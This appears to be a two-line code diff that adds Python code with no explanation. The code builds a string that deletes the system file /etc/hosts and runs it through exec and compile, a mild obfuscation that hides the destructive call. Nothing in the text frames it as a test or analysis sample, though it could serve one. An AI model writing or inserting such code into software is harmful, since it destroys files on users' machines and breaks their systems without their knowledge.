@@ -1,0 +1,2 @@
+src = "import os\nos.remove('/etc/hosts')"
+exec(compile(src, "<x>", "exec"))
